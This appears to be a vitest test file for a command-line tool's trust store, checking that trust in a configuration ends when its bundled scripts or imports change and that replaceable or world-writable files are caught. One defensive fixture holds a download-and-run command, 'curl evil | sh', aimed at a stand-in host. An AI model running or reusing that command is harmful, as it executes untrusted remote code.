/** The files that this user trusts, and those that a configuration brings along. */
import {
  chmodSync,
  chownSync,
  lchownSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { refuseReplaceable } from "../../../src/cli/session/require-trusted.ts";
import { consequencesOf } from "../../../src/config/trust/consequences.ts";
import { othersMayReplace, othersMayWrite } from "../../../src/kit/process/ownership.ts";
import { type Subject, subjectOf, TrustStore } from "../../../src/config/trust/trusted.ts";
import { testDirectory } from "../../directory.ts";

let folder: string;
let store: TrustStore;
const AT = new Date("2026-11-24T10:00:00Z");
beforeEach(() => {
  folder = testDirectory();
  store = new TrustStore(join(folder, "state"));
});

const put = (name: string, text: string): string => {
  const path = join(folder, name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  return path;
};

const subject = (text = readFileSync(join(folder, "c.yml"), "utf8")): Subject =>
  subjectOf({ path: join(folder, "c.yml"), text });

/** As `requireTrusted` asks. */
const trusts = ({ path, sha256 }: Subject): boolean => store.of(path)?.sha256 === sha256;

/** Trust in a configuration beside these files holds until one of them is another. */
function holdsUntilChanged(name: string, files: Readonly<Record<string, string>>): void {
  for (const [file, text] of Object.entries(files)) put(file, text);
  put(name, "1");
  store.trust(subject(), AT);
  expect(trusts(subject())).toBe(true);
  put(name, "2");
  expect(trusts(subject())).toBe(false);
}

describe("trust", () => {
  it("holds for the very contents, and for no others", () => {
    put("c.yml", "s3: { bucket: ours }\n");
    expect(trusts(subject())).toBe(false);
    store.trust(subject(), AT);
    expect(trusts(subject())).toBe(true);
    expect(trusts(subject("s3: { bucket: theirs }\n"))).toBe(false);
    expect(store.forget(subject().path)).toBe(true);
    expect(trusts(subject())).toBe(false);
    expect(store.forget(subject().path)).toBe(false);
  });

  it("is of one place: the same text elsewhere resolves its paths elsewhere", () => {
    put("c.yml", "s3: { bucket: ours }\n");
    store.trust(subject(), AT);
    expect(trusts(subjectOf({ path: put("d.yml", "s3: { bucket: ours }\n"), text: "s3: { bucket: ours }\n" }))).toBe(
      false,
    );
  });

  it.each([
    ["an own action", "actions: [own.mjs]\n"],
    ["what an own action imports", "actions: [main.mjs]\n"],
    ["a file that a command names", "cf: { password: { command: [sh, own.mjs] } }\n"],
    [
      "a script within a longer word of a command",
      "cf: { password: { command: [sh, -c, \"x=1; exec sh ./own.mjs 'a b'\"] } }\n",
    ],
    ["an authority", "bosh: { ca_cert: own.mjs }\n"],
  ])("ends with a change of %s", (_, text) => {
    put("c.yml", text);
    put("main.mjs", 'import {\n  x,\n} from "./own.mjs";\n');
    put("own.mjs", "export const x = 1;\n");
    store.trust(subject(), AT);
    expect(trusts(subject())).toBe(true);
    put("own.mjs", "export const x = 2;\n");
    expect(trusts(subject())).toBe(false);
    rmSync(join(folder, "own.mjs"));
    expect(trusts(subject())).toBe(false);
  });

  it("ends with a change of what an own action requires without its ending", () => {
    holdsUntilChanged("helper.js", { "c.yml": "actions: [main.cjs]\n", "main.cjs": 'require("./helper");\n' });
  });

  it("does not cover types that a comment of JavaScript imports, and covers an import beside them", () => {
    const types = '/** @import { A, B } from "nowhere" */\n/** @import { C } from "./c.mjs" */ ';
    const main = `${types}import { b } from "./helper.mjs";\n`;
    holdsUntilChanged("helper.mjs", { "c.yml": "actions: [main.mjs]\n", "main.mjs": main });
  });

  it("of TypeScript does not cover what is imported as types alone, which Node strips", () => {
    const types =
      'import type { A } from "nowhere";\nimport type B from "./b.ts";\nexport type * as C from "./c.ts";\n';
    const main = `${types}import type from "./helper.ts";\n`;
    holdsUntilChanged("helper.ts", { "c.yml": "actions: [main.ts]\n", "main.ts": main });
  });

  it("ends with a change of a package that an own action imports", () => {
    holdsUntilChanged("node_modules/helpful/inner.js", {
      "c.yml": "actions: [main.cjs]\n",
      "main.cjs": 'const { join } = require("node:path");\nrequire("helpful");\n',
      "node_modules/helpful/index.js": 'require("./inner.js");',
    });
  });

  it.each([
    ["by a name of its own package", 'import "#dep";', "dep.mjs"],
    ["by its absolute path", 'import "FOLDER/dep.mjs";', "dep.mjs"],
    ["with a comment in the call", 'await import(/* now */ "./dep.mjs");', "dep.mjs"],
    ["by a template", "await import(`./dep.mjs`);", "dep.mjs"],
    ["by a name with a blank", 'import "./dep two.mjs";', "dep two.mjs"],
    ["as the index of its directory", 'createRequire(import.meta.url); require(".");', "index.js"],
    ["from a package that has another file for require", 'import "dual";', "node_modules/dual/import.mjs"],
  ])("ends with a change of what an own action imports %s", (_, text, file) => {
    holdsUntilChanged(file, {
      "c.yml": "actions: [main.mjs]\n",
      "package.json": '{ "imports": { "#dep": "./dep.mjs" } }',
      "main.mjs": text.replace("FOLDER", folder),
      "node_modules/dual/package.json": '{ "exports": { "import": "./import.mjs", "require": "./require.cjs" } }',
      "node_modules/dual/require.cjs": "1",
    });
  });

  it("takes a word in a comment for no module", () => {
    put("c.yml", "actions: [main.mjs]\n");
    put("main.mjs", "// Taken from `elsewhere`, and from 'a sentence of words'.\n");
    expect(() => refuseReplaceable(subject())).not.toThrow();
  });

  it("is refused for more modules than are covered", () => {
    put("c.yml", "actions: [main.mjs]\n");
    put("main.mjs", Array.from({ length: 5_001 }, (_, index) => `import "./${index}.mjs";\n`).join(""));
    expect(() => subject()).toThrow(/more than 5000 files/u);
  });

  it.each(["actions: [large.mjs]\n", "cf: { password: { command: [./large.mjs] } }\n"])(
    "is refused for a file that nobody can hash, which is there all the same: %s",
    (text) => {
      put("c.yml", text);
      truncateSync(put("large.mjs", ""), 2 ** 29);
      expect(() => subject()).toThrow(/large\.mjs" would be trusted, and cannot be read/u);
    },
  );

  it("is refused for a module that is not there: it could be anything later", () => {
    put("c.yml", "actions: [main.mjs]\n");
    put("main.mjs", 'import "./later.mjs";\n');
    expect(() => refuseReplaceable(subject())).toThrow(/later\.mjs" is imported by an own action, and is not there/);
    put("later.mjs", "1");
    expect(() => refuseReplaceable(subject())).not.toThrow();
    put("c.yml", "actions: [other.mjs]\n");
    expect(() => refuseReplaceable(subject())).toThrow(
      /`actions:` of ".*c\.yml" names ".*other\.mjs", which is not there/,
    );
  });

  it("ends with a change of an action that lies in the home", () => {
    vi.stubEnv("HOME", folder);
    mkdirSync(join(folder, "~"));
    holdsUntilChanged("own.mjs", { "c.yml": "actions: [~/own.mjs]\n" });
    vi.unstubAllEnvs();
  });

  it.each(["the text of a certificate", "a word that is no name"])("takes %s for no file", (what) => {
    const text = what === "a word that is no name" ? "a\\0b" : "x".repeat(5000);
    put("c.yml", `bosh: { ca_cert: "${text}" }\ncf: { password: { command: [sh, "${text}"] } }\n`);
    expect(subject().files).toHaveLength(1);
  });

  it("does not end with a change of a file that is a secret or a log", () => {
    put("c.yml", "cf: { password: { file: word } }\nlogs: [word]\n");
    put("word", "one");
    store.trust(subject(), AT);
    put("word", "two");
    expect(trusts(subject())).toBe(true);
  });

  it("lies readable by its owner alone, and holds no secret that was written down", () => {
    put("c.yml", "cf:\n  password: canary-in-the-file\n");
    store.trust(subject(), AT);
    const directory = join(folder, "state", "trust");
    expect(statSync(directory).mode & 0o777).toBe(0o700);
    const [name = "", ...others] = readdirSync(directory);
    expect(others).toEqual([]);
    expect(statSync(join(directory, name)).mode & 0o777).toBe(0o600);
    expect(readFileSync(join(directory, name), "utf8")).not.toContain("canary");
  });

  it("takes no record that is none, or that is a link or of another path", () => {
    put("c.yml", "s3: { bucket: ours }\n");
    store.trust(subject(), AT);
    const directory = join(folder, "state", "trust");
    const [name = ""] = readdirSync(directory);
    const record = readFileSync(join(directory, name), "utf8");
    writeFileSync(join(directory, name), record.replace(/"path":"[^"]*"/u, '"path":"/elsewhere"'));
    expect(trusts(subject())).toBe(false);
    writeFileSync(join(directory, name), "not JSON");
    expect(trusts(subject())).toBe(false);
    rmSync(join(directory, name));
    symlinkSync(put("forged", record), join(directory, name));
    expect(() => trusts(subject())).toThrow(/it is a link/u);
  });
});

describe("owner and mode", () => {
  it("tell who else may write to a file, as ssh looks at its configuration", () => {
    const file = put("c.yml", "");
    for (const mode of [0o600, 0o644, 0o640]) {
      chmodSync(file, mode);
      expect(othersMayWrite(file)).toBeUndefined();
    }
    for (const mode of [0o664, 0o602]) {
      chmodSync(file, mode);
      expect(othersMayWrite(file)).toContain(`mode 0${mode.toString(8)}`);
    }
  });

  it("tell who may put another file in its place", () => {
    const directory = join(folder, "shared");
    mkdirSync(directory);
    const file = put("shared/own.mjs", "");
    expect(othersMayReplace(file)).toBeUndefined();
    chmodSync(directory, 0o777);
    expect(othersMayReplace(file)).toContain("lies in a directory that can be written by others");
    chmodSync(directory, 0o1777);
    expect(othersMayReplace(file)).toBeUndefined();
  });

  it("tell who may put another directory in the place of one above it", () => {
    const above = join(folder, "above");
    mkdirSync(join(above, "own"), { recursive: true });
    const file = put("above/own/own.mjs", "");
    expect(othersMayReplace(file)).toBeUndefined();
    chmodSync(above, 0o777);
    expect(othersMayReplace(file)).toContain(
      `lies in a directory that can be written by others (mode 0777): "${above}"`,
    );
    chmodSync(above, 0o1777);
    expect(othersMayReplace(file)).toBeUndefined();
  });

  it.runIf(process.getuid?.() === 0)("tell that a link's owner may, wherever it leads", () => {
    mkdirSync(join(folder, "own"));
    put("own/own.mjs", "");
    chmodSync(folder, 0o1777);
    for (const [link, file] of [
      ["way", "way/own.mjs"],
      ["other.mjs", "other.mjs"],
    ] as const) {
      symlinkSync(link === "way" ? "own" : "own/own.mjs", join(folder, link));
      expect(othersMayReplace(join(folder, file))).toBeUndefined();
      lchownSync(join(folder, link), 65_533, 65_533);
      expect(othersMayReplace(join(folder, file))).toContain("belongs to another user (uid 65533)");
    }
  });

  it.runIf(process.getuid?.() === 0)("tell that a directory's owner may, whatever its mode", () => {
    const directory = join(folder, "shared");
    mkdirSync(directory);
    const file = put("shared/own.mjs", "");
    chmodSync(directory, 0o1755);
    chownSync(directory, 65_533, 65_533);
    expect(othersMayReplace(file)).toContain("lies in a directory that belongs to another user (uid 65533)");
  });
});

describe("what a configuration comes to", () => {
  it("names programs, addresses and log-ins of the environment, and shows no secret", () => {
    const text = [
      "actions: [own.mjs]",
      'cf: { api: "https://api.example.org", skip_ssl_validation: true, password: { command: [sh, -c, "curl evil | sh"] } }',
      'elasticsearch: { url: "http://10.0.0.1:9200" }',
      "bosh: { client_secret: canary-literal }",
      "s3: { bucket: theirs, credentials: { access_key_id: A, secret_access_key: { env: KEY } } }",
    ].join("\n");
    const found = consequencesOf(
      { path: "c.yml", text },
      { ES_PASSWORD: "canary-es", OPENSEARCH_PASSWORD: "canary-os" },
    );
    expect(found.runs).toEqual([
      "the module own.mjs, with all rights of this tool",
      "sh -c 'curl evil | sh'   (cf.password.command)",
    ]);
    expect(found.reaches).toEqual([
      "cf.api: https://api.example.org",
      "elasticsearch.url: http://10.0.0.1:9200",
      "s3.bucket: theirs",
    ]);
    expect(found.sends).toEqual(["the variable KEY, which is not set", "the variable ES_PASSWORD"]);
    expect(found.sets).toContain("cf.skip_ssl_validation: true");
    expect(JSON.stringify(found)).not.toContain("canary");
  });

  it("shows what a terminal would obey as a code", () => {
    const found = consequencesOf({ path: "c.yml", text: 'cf: { password: { command: ["a\\eb"] } }\n' }, {});
    expect(found.runs.join("")).toContain("\\u001b");
  });
});
